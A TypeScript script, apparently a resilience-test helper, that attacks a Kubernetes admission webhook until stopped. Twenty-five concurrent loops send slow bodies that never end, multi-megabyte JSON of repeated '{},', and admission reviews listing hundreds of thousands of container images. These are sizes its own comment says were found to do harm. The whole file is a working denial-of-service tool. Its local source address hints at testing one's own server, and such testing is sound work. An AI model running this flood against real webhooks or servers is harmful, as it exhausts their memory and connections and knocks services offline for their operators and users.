/**
 * A process of its own that attacks a webhook from 127.0.0.2 until SIGTERM, as fast as it is answered: nine bodies that never
 * end, eight of `{},` and eight reviews of images. They have the sizes that were found to do harm, or with `within` those that
 * cost a server most of what it takes. Runs from source. `hostile-peer.ts URL [within]`; says `attacking` when it begins.
 */
import { setTimeout as delay } from "node:timers/promises";
import { connect } from "node:tls";

const MIB = 1024 * 1024;
const FROM: object = { localAddress: "127.0.0.2" };
const { hostname, port, pathname } = new URL(process.argv[2] ?? "");
const ended = new AbortController();
process.once("SIGTERM", () => ended.abort());

const review = (object: string): string =>
  `{"request":{"uid":"u","kind":{"kind":"Pod"},"operation":"CREATE","dryRun":true,"object":${object}}}`;
const braces = (bytes: number): string => review(`{"a":[${"{},".repeat(bytes / 3 - 100)}{}]}`);
const images = (count: number): string => {
  const containers = Array.from({ length: count }, (_, index) => `{"name":"c","image":"r.test/${index}"}`);
  return review(`{"metadata":{"namespace":"default"},"spec":{"containers":[${containers.join(",")}]}}`);
};

/** Sends a body, or all but its end, and waits for whatever the server makes of it. */
async function send(body: Buffer, announced: number): Promise<void> {
  const socket = connect({ host: hostname, port: Number(port), rejectUnauthorized: false, ...FROM });
  socket.on("error", () => undefined);
  const over = new Promise((resolve) => socket.once("close", resolve));
  socket.once("data", () => socket.destroy());
  socket.write(`POST ${pathname} HTTP/1.1\r\nhost: a\r\ncontent-length: ${announced}\r\n\r\n`);
  socket.write(body);
  const abort = (): void => void socket.destroy();
  ended.signal.addEventListener("abort", abort);
  await over;
  ended.signal.removeEventListener("abort", abort);
}

async function repeat(bodies: readonly (readonly [Buffer, number])[]): Promise<void> {
  for (let round = 0; !ended.signal.aborted; round++) {
    const [body, announced] = bodies[round % bodies.length] ?? [Buffer.alloc(0), 0];
    await send(body, announced);
    // A connection that is refused at once is not worth a loop that keeps a processor busy.
    await delay(20);
  }
}

const whole = (body: string): readonly [Buffer, number] => [Buffer.from(body), body.length];
const unfinished = (bytes: number): readonly [Buffer, number] => [Buffer.alloc(bytes - 1, "x"), bytes];
const [slow, structure, containers] =
  process.argv[3] === "within"
    ? [
        [unfinished(60_000)],
        [whole(braces(4.9 * MIB)), whole(braces(50_000))],
        [whole(images(12_000)), whole(images(900))],
      ]
    : [[unfinished(7 * MIB), unfinished(5 * MIB)], [whole(braces(7 * MIB))], [whole(images(305_834))]];
const running = [
  ...Array.from({ length: 9 }, () => repeat(slow)),
  ...Array.from({ length: 8 }, () => repeat(structure)),
  ...Array.from({ length: 8 }, () => repeat(containers)),
];
console.log("attacking");
await Promise.all(running);
